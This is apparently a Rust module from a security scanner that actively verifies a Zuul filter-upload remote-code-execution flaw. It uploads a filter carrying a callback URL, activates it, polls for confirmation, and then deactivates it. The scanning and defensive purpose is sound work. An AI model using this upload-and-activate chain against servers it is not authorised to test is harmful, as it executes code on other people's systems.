//! Active verification of the filter upload RCE
//!
//! The probe uploads a verification filter, checks whether the upload created
//! a new filter revision, activates it and waits for it to answer on
//! `/vulncheck-spt`. An out-of-band callback from the filter, when it arrives
//! before the in-band checks, confirms the target directly.

use super::artifact::ProbeArtifact;
use super::{
    endpoint, validate_target, CASSANDRA_DORK, FILTERS_ENDPOINT, SET_FILTER_ENDPOINT,
    UPLOAD_ENDPOINT, VCHECK_CONFIRMATION, VCHECK_ENDPOINT, VCHECK_FILTER_ID,
};
use crate::error::{ProbeFailure, Result, ZuulError};
use crate::http::{HttpResponse, Transport};
use crate::models::ResultSet;
use crate::oob::CallbackSignal;
use crate::registry::parse_registry;
use async_trait::async_trait;
use reqwest::StatusCode;
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, info, warn};

/// Verification checks made after activating the filter
pub const CONFIRM_POLL_ATTEMPTS: u32 = 6;

/// Wait after the unconfirmed check `attempt` (0-based): 1s, 2s, 4s, ...
pub fn poll_delay(attempt: u32) -> Duration {
    Duration::from_secs(1u64 << attempt)
}

/// Timed suspension used between confirmation checks
#[async_trait]
pub trait Sleeper: Send + Sync {
    async fn sleep(&self, duration: Duration);
}

/// [`Sleeper`] backed by the tokio timer
pub struct TokioSleeper;

#[async_trait]
impl Sleeper for TokioSleeper {
    async fn sleep(&self, duration: Duration) {
        tokio::time::sleep(duration).await;
    }
}

#[derive(Debug, Clone, Copy)]
enum FilterAction {
    Activate,
    Deactivate,
}

impl FilterAction {
    fn as_str(self) -> &'static str {
        match self {
            FilterAction::Activate => "ACTIVATE",
            FilterAction::Deactivate => "DEACTIVATE",
        }
    }
}

/// Multi-step exploitability check against a single target
pub struct ActiveProbe {
    transport: Arc<dyn Transport>,
    sleeper: Arc<dyn Sleeper>,
}

impl ActiveProbe {
    pub fn new(transport: Arc<dyn Transport>) -> Self {
        Self {
            transport,
            sleeper: Arc::new(TokioSleeper),
        }
    }

    /// Replaces the timer used between confirmation checks
    pub fn with_sleeper(mut self, sleeper: Arc<dyn Sleeper>) -> Self {
        self.sleeper = sleeper;
        self
    }

    /// Runs the active scan against `target`.
    ///
    /// `callback_url` is injected into the uploaded filter. The caller owns the
    /// sending side of `signal` and notifies it when that callback arrives; the
    /// probe reads it once, without waiting. On error the returned
    /// [`ProbeFailure`] still carries the facets determined so far.
    pub async fn scan(
        &self,
        target: &str,
        callback_url: &str,
        signal: Option<&mut CallbackSignal>,
    ) -> std::result::Result<ResultSet, ProbeFailure> {
        let mut rs = ResultSet::default();
        match self.run(target, callback_url, signal, &mut rs).await {
            Ok(()) => Ok(rs),
            Err(error) => Err(ProbeFailure { result: rs, error }),
        }
    }

    async fn run(
        &self,
        target: &str,
        callback_url: &str,
        signal: Option<&mut CallbackSignal>,
        rs: &mut ResultSet,
    ) -> Result<()> {
        validate_target(target)?;
        let signal = signal.ok_or_else(|| {
            ZuulError::InvalidInput("a buffered callback signal is required".to_string())
        })?;

        // Don't upload over a filter that is already active.
        if self.is_filter_enabled(target).await? {
            info!("{target}: verification filter already enabled");
            rs.prev_enabled = true;
            return Ok(());
        }

        let current_rev = self.filter_revision(target).await?;
        debug!("{target}: current {VCHECK_FILTER_ID} revision {current_rev}");

        let artifact = ProbeArtifact::vulncheck(callback_url);
        let response = self
            .transport
            .post_multipart(
                &endpoint(target, UPLOAD_ENDPOINT),
                artifact.filename(),
                artifact.content(),
            )
            .await?;
        debug!("{target}: filter upload returned {}", response.status);
        if !classify_upload(&response, rs) {
            return Ok(());
        }

        // A callback means our code already ran on the target.
        if signal.try_receive() {
            info!("{target}: callback received, filter executed");
            rs.vulnerable = true;
            return Ok(());
        }

        let new_rev = self.filter_revision(target).await?;
        if new_rev <= current_rev {
            return Err(ZuulError::StateInconsistency {
                previous: current_rev,
                current: new_rev,
            });
        }

        let response = self.set_filter_action(target, FilterAction::Activate, new_rev).await?;
        if response.status != StatusCode::FOUND {
            return Err(ZuulError::ActivationError(response.status));
        }
        debug!("{target}: activated revision {new_rev}");

        rs.vulnerable = self.confirm_poll(target).await?;
        if !rs.vulnerable {
            return Err(ZuulError::ActivationTimeout(CONFIRM_POLL_ATTEMPTS));
        }
        info!("{target}: verification filter active, target is vulnerable");

        match self.set_filter_action(target, FilterAction::Deactivate, new_rev).await {
            Ok(response) if response.status == StatusCode::FOUND => Ok(()),
            Ok(response) => Err(ZuulError::DeactivationError(format!(
                "unexpected status {}",
                response.status
            ))),
            Err(e) => Err(ZuulError::DeactivationError(e.to_string())),
        }
    }

    /// Checks whether the verification filter answers on its endpoint
    async fn is_filter_enabled(&self, target: &str) -> Result<bool> {
        let response = self.transport.get(&endpoint(target, VCHECK_ENDPOINT)).await?;
        Ok(response.status == StatusCode::OK && response.body == VCHECK_CONFIRMATION)
    }

    /// Highest registry revision of the verification filter, 0 if absent
    async fn filter_revision(&self, target: &str) -> Result<u64> {
        let url = endpoint(target, FILTERS_ENDPOINT);
        let response = self.transport.get(&url).await?;
        if response.status != StatusCode::OK {
            return Err(ZuulError::RegistryUnavailable {
                url,
                status: response.status,
            });
        }
        Ok(parse_registry(&response.body)?.revision(VCHECK_FILTER_ID))
    }

    async fn set_filter_action(
        &self,
        target: &str,
        action: FilterAction,
        revision: u64,
    ) -> Result<HttpResponse> {
        let revision = revision.to_string();
        let form = [
            ("filter_id", VCHECK_FILTER_ID),
            ("action", action.as_str()),
            ("revision", revision.as_str()),
        ];
        self.transport
            .post_form(&endpoint(target, SET_FILTER_ENDPOINT), &form)
            .await
    }

    /// Polls the verification endpoint with exponential waits
    async fn confirm_poll(&self, target: &str) -> Result<bool> {
        for attempt in 0..CONFIRM_POLL_ATTEMPTS {
            if self.is_filter_enabled(target).await? {
                return Ok(true);
            }
            let delay = poll_delay(attempt);
            debug!("{target}: filter not active yet, waiting {delay:?}");
            self.sleeper.sleep(delay).await;
        }
        warn!("{target}: filter uploaded but never became active");
        Ok(false)
    }
}

/// Applies the upload response to `rs`; returns true if the scan should go on
fn classify_upload(response: &HttpResponse, rs: &mut ResultSet) -> bool {
    match response.status {
        StatusCode::FOUND => true,
        StatusCode::FORBIDDEN => {
            rs.admin_disabled = true;
            false
        }
        StatusCode::INTERNAL_SERVER_ERROR => {
            // Cassandra missing: the filter may still load, only a callback can tell.
            rs.might_vulnerable = response.body.contains(CASSANDRA_DORK);
            false
        }
        _ => false,
    }
}
